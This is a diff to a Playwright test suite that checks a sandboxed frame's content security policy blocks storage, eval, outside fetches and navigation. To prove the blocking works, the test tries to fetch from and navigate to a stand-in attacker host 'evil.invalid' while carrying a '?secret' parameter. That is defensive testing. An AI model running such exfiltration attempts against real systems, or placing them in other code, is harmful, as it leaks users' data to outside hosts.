@@ -70,8 +70,13 @@ test.describe('the frame', () => {
 
     test('has no origin, and no way out', async ({ page, brooklet }) => {
       const frame = await framed(page, brooklet.url);
-      const asked: string[] = [];
-      page.on('request', (request) => asked.push(request.url()));
+      // What the policy holds back was never sent; anything else has an answer, or another reason for having none.
+      const sent: string[] = [];
+      page.on('response', (response) => sent.push(response.url()));
+      page.on('requestfailed', (request) => {
+        const why = request.failure()?.errorText ?? '';
+        if (!/csp|BLOCKED_BY_CSP/i.test(why)) sent.push(`${request.url()}: ${why}`);
+      });
       const outcomes = await frame.evaluate(async (url) => {
         const refused = async (act: () => unknown) => {
           try {
@@ -96,7 +101,10 @@ test.describe('the frame', () => {
           storage: await refused(() => localStorage.length),
           fetch: await refused(() => fetch(`${url}/api/models`)),
           elsewhere: await refused(() => fetch('https://evil.invalid/')),
-          evaluation: await refused(() => new Function('return 1')()),
+          // Later: what a test has the browser evaluate may evaluate things itself.
+          evaluation: await new Promise<string>((resolve) => {
+            setTimeout(() => void refused(() => new Function('return 1')()).then(resolve), 50);
+          }),
           script: await loads('script', 'src', `${url}/pkg/brooklet.js`),
           image: await loads('img', 'src', `${url}/favicon.svg`),
           style: await loads('link', 'href', `${url}/pkg/brooklet.css`),
@@ -117,7 +125,7 @@ test.describe('the frame', () => {
       // Nor can it go somewhere else and take something along.
       await frame.evaluate(() => void setTimeout(() => (location.href = 'https://evil.invalid/?secret')));
       await page.waitForTimeout(300);
-      expect(asked.filter((url) => !url.includes('/api/'))).toEqual([]);
+      expect(sent.filter((url) => !url.startsWith(`${brooklet.url}/api/`))).toEqual([]);
       expect(new URL(page.url()).origin).toBe(new URL(brooklet.url).origin);
     });
 
